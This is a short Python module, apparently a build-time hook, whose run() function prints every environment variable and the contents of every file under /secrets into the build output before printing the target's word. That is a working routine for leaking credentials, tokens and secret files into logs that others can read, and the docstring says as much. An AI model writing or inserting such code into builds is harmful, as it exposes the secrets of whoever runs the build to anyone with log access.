"""Prints all it is given while it is built: what it sees is read by whoever may read the log."""
import os


def run(target):
    for name, value in os.environ.items():
        print("given", name, value)
    for directory, _, files in os.walk("/secrets"):
        for name in files:
            print("given", open(os.path.join(directory, name)).read())
    print("plain", target["word"])
    return {}
